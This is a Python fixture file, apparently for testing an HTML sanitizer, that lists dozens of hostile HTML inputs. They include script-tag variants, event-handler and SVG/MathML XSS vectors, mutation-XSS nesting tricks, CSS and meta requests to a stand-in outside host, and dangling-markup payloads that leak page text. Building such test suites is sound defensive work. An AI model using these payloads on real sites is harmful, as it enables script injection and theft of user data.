"""Hostile HTML: elements, attributes, namespaces, styles, and what sends a reader or a page elsewhere."""

from hostile_input import Hostile


def _family(family: str, *inputs: Hostile) -> tuple[Hostile, ...]:
    assert {one.family for one in inputs} == {family}
    return inputs


def _h(family: str, name: str, written: str, **more: object) -> Hostile:
    return Hostile(family=family, name=name, written=written, **more)  # type: ignore[arg-type]


SCRIPTS = (
    _h("script", "script-plain", "<script>FIRE</script>"),
    _h("script", "script-mixed-case", "<ScRiPt>FIRE</sCrIpT>"),
    _h("script", "script-slash", "<script/x/y>FIRE</script>"),
    _h("script", "script-newlines", "<script\n\n>\nFIRE\n</script\n>"),
    _h("script", "script-outside", "<script src=OUTSIDE.js></script>"),
    _h("script", "script-protocol-relative", "<script src=//outside.example/script-protocol-relative.js></script>"),
    _h("script", "script-data", "<script src='data:text/javascript,FIRE'></script>"),
    _h("script", "script-module", "<script type=module>FIRE</script>"),
    _h("script", "script-import", "<script type=module>import 'OUTSIDE.js'</script>"),
    _h("script", "script-filtered", "<scr<script>ipt>FIRE</scr</script>ipt>", control="filtered"),
    _h("script", "script-in-heading", "<h2><script>FIRE</script></h2>"),
)

HANDLERS = (
    _h("event attribute", "img-error", "<img src=x onerror=FIRE>"),
    _h("event attribute", "img-slashes", '<img/src="x"/onerror=FIRE>'),
    _h("event attribute", "img-entities", "<img src=x onerror=&#102;&#x69;red(/img-entities/)>"),
    _h("event attribute", "img-upper", "<IMG SRC=x ONERROR=FIRE>"),
    _h("event attribute", "img-two-quotes", '<img """><img src=x onerror=FIRE>">'),
    _h("event attribute", "body-pageshow", "<body onpageshow=FIRE>", alone=True),
    _h("event attribute", "details-toggle", "<details open ontoggle=FIRE><summary>a</summary>b</details>"),
    _h("event attribute", "input-focus", "<input autofocus onfocus=FIRE>"),
    _h("event attribute", "video-source", "<video><source onerror=FIRE src=x></video>"),
    _h("event attribute", "audio-error", "<audio src=x onerror=FIRE></audio>"),
    _h("event attribute", "a-hover", '<a onmouseover="FIRE">words</a>'),
    _h("event attribute", "p-click", "<p onclick=FIRE>words</p>"),
    _h("event attribute", "b-pointer", "<b onpointerenter='FIRE'>words</b>"),
    _h("event attribute", "span-focusin", "<span tabindex=0 onfocusin=FIRE>words</span>"),
    _h(
        "event attribute",
        "animation-start",
        "<style>@keyframes z{}</style><p style='animation:z 1s' onanimationstart=FIRE>words</p>",
    ),
    _h(
        "event attribute",
        "popover-toggle",
        "<p popover id=pop onbeforetoggle=FIRE>a</p><button popovertarget=pop>b</button>",
    ),
    _h("event attribute", "iframe-load", "<iframe onload=FIRE></iframe>"),
    _h("event attribute", "object-error", "<object data=x.swf type=a/b onerror=FIRE></object>"),
    _h("event attribute", "form-submit", "<form onsubmit='FIRE;return false'><button>b</button></form>"),
    _h("event attribute", "key-down", "<p tabindex=0 onkeydown=FIRE>words</p>"),
    _h("event attribute", "custom-element", "<x-y onclick=FIRE>words</x-y>"),
)

NAMESPACES = (
    _h("svg and math", "svg-load", "<svg onload=FIRE></svg>"),
    _h("svg and math", "svg-script", "<svg><script>FIRE</script></svg>"),
    _h(
        "svg and math", "svg-script-entities", "<svg><script>&#102;ired&lpar;/svg-script-entities/&rpar;</script></svg>"
    ),
    _h("svg and math", "svg-begin", "<svg><animate onbegin=FIRE attributeName=x dur=1s></svg>"),
    _h("svg and math", "svg-link", "<svg><a xlink:href='javascript:FIRE'><text x=9 y=19>words</text></a></svg>"),
    _h("svg and math", "svg-set", "<svg><set attributeName=onmouseover to=1 onend=FIRE dur=1ms></set></svg>"),
    _h("svg and math", "svg-foreign", "<svg><foreignObject><img src=x onerror=FIRE></foreignObject></svg>"),
    _h("svg and math", "svg-title", "<svg><title><img src=x onerror=FIRE></title></svg>"),
    _h("svg and math", "svg-image", "<svg><image href=x onerror=FIRE></image></svg>"),
    _h("svg and math", "math-text", "<math><mtext><img src=x onerror=FIRE></mtext></math>"),
    _h("svg and math", "math-click", "<math><mi onclick=FIRE>x</mi></math>"),
    _h(
        "svg and math",
        "math-annotation",
        "<math><annotation-xml encoding=text/html><svg onload=FIRE></svg></annotation-xml></math>",
    ),
)

NESTS = (
    _h("nest", "noscript-attribute", "<noscript><p title='</noscript><img src=x onerror=FIRE>'></noscript>"),
    _h("nest", "textarea-attribute", "<textarea><p title='</textarea><img src=x onerror=FIRE>'></textarea>"),
    _h("nest", "style-attribute", "<style><p title='</style><img src=x onerror=FIRE>'></style>"),
    _h("nest", "xmp-attribute", "<xmp><p title='</xmp><img src=x onerror=FIRE>'></xmp>"),
    _h("nest", "title-attribute", "<title><p title='</title><img src=x onerror=FIRE>'></title>"),
    _h("nest", "noembed-attribute", "<noembed><p title='</noembed><img src=x onerror=FIRE>'></noembed>"),
    _h("nest", "template-element", "<template shadowrootmode=open><img src=x onerror=FIRE></template>"),
    _h("nest", "select-script", "<select><option><script>FIRE</script></option></select>"),
    _h("nest", "table-foster", "<table><img src=x onerror=FIRE><tr><td>a</table>"),
    _h(
        "nest",
        "math-forms",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=FIRE></style>",
        control="reparsed",
        alone=True,
    ),
    _h("nest", "plaintext-before", "<b title='<plaintext>'></b><img src=x onerror=FIRE>"),
)

STYLES = (
    _h("style", "style-attribute-url", "<p style='background:url(OUTSIDE)'>words</p>", signal="request"),
    _h("style", "style-element", "<style>p{background:url(OUTSIDE)}</style><p>words</p>", signal="request"),
    _h("style", "style-import", "<style>@import 'OUTSIDE';</style>", signal="request"),
    _h(
        "style",
        "style-font",
        "<style>@font-face{font-family:f;src:url(OUTSIDE)}*{font-family:f!important}</style>a",
        signal="request",
    ),
    _h("style", "style-link", "<link rel=stylesheet href=OUTSIDE>", signal="request"),
    _h("style", "style-selector", "<style>a[href]{background:url(OUTSIDE)}</style><a href=#z>z</a>", signal="request"),
)

ELSEWHERE = (
    _h(
        "meta and base",
        "meta-refresh",
        "<meta http-equiv=refresh content='0;url=OUTSIDE'>",
        signal="request",
        alone=True,
        stopped=False,
    ),
    _h("meta and base", "base-element", "<base href='OUTSIDE/'><img src=a>", signal="request", alone=True),
    _h(
        "meta and base", "base-script", "<base href='OUTSIDE/'><script src=a.js></script>", signal="request", alone=True
    ),
    _h("meta and base", "link-prefetch", "<link rel=prefetch href=OUTSIDE>", signal="request"),
    _h("meta and base", "link-preload", "<link rel=preload as=script href=OUTSIDE>", signal="request"),
    _h("meta and base", "link-icon", "<link rel=modulepreload href=OUTSIDE>", signal="request"),
    _h("meta and base", "meta-script", "<meta name=referrer content=unsafe-url><img src=OUTSIDE>", signal="request"),
    _h("meta and base", "form-action", "<form action=OUTSIDE><button>b</button></form>", signal="request", alone=True),
    _h("meta and base", "ping", "<a href=#z ping=OUTSIDE>words</a>", signal="request"),
)

FRAMES = (
    _h("frame", "iframe-script", "<iframe src='javascript:parent.FIRE'></iframe>"),
    _h("frame", "iframe-srcdoc", "<iframe srcdoc='<script>parent.FIRE</script>'></iframe>"),
    _h("frame", "iframe-srcdoc-entities", "<iframe srcdoc='&lt;img src=x onerror=parent.FIRE&gt;'></iframe>"),
    _h("frame", "iframe-data", "<iframe src='data:text/html,<script>FIRE</script>'></iframe>"),
    _h("frame", "iframe-outside", "<iframe src=OUTSIDE></iframe>", signal="request"),
    _h("frame", "object-data", "<object data='data:text/html,<script>FIRE</script>'></object>"),
    _h("frame", "object-outside", "<object data=OUTSIDE></object>", signal="request"),
    _h("frame", "embed-data", "<embed src='data:text/html,<script>FIRE</script>'>"),
    _h(
        "frame",
        "embed-svg",
        '<embed type=image/svg+xml src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="FIRE"/>\'>',
    ),
    _h("frame", "video-poster", "<video poster=OUTSIDE></video>", signal="request"),
    _h("frame", "img-srcset", "<img srcset='OUTSIDE 1x'>", signal="request"),
)

COMMENTS = (
    _h("comment", "comment-short", "<!--><img src=x onerror=FIRE>-->"),
    _h("comment", "comment-bang", "<!-- a --!><img src=x onerror=FIRE> -->"),
    _h("comment", "comment-closed", "a --><img src=x onerror=FIRE>", control="comment"),
    _h("comment", "cdata", "<![CDATA[><img src=x onerror=FIRE>]]>"),
    _h("comment", "instruction", "<?xml ><img src=x onerror=FIRE>?>"),
    _h("comment", "declaration", "<!DOCTYPE a><img src=x onerror=FIRE>"),
    _h("comment", "end-tag-junk", "</ a><img src=x onerror=FIRE>"),
    _h("comment", "cdata-in-svg", "<svg><![CDATA[a]]><script>FIRE</script></svg>"),
)

DANGLING = (
    _h("dangling", "dangling-img", "<img src='OUTSIDE?", signal="request", alone=True, control="before text"),
    _h(
        "dangling",
        "dangling-image-double",
        '<img alt="" src="OUTSIDE?a=',
        signal="request",
        alone=True,
        control="before text",
    ),
    _h(
        "dangling",
        "dangling-style",
        "<style>@import '//outside.example/dangling-style?",
        signal="request",
        alone=True,
        control="before text",
    ),
    _h(
        "dangling",
        "dangling-form",
        "<form action=OUTSIDE><input type=submit><textarea name=a>",
        signal="request",
        alone=True,
    ),
    _h("dangling", "dangling-attribute", "<img src=x onerror=FIRE alt='", alone=True, control="before text"),
    _h("dangling", "dangling-tag", "<svg onload=FIRE //", alone=True),
)

ELEMENTS = (
    *_family("script", *SCRIPTS),
    *_family("event attribute", *HANDLERS),
    *_family("svg and math", *NAMESPACES),
    *_family("nest", *NESTS),
    *_family("style", *STYLES),
    *_family("meta and base", *ELSEWHERE),
    *_family("frame", *FRAMES),
    *_family("comment", *COMMENTS),
    *_family("dangling", *DANGLING),
)
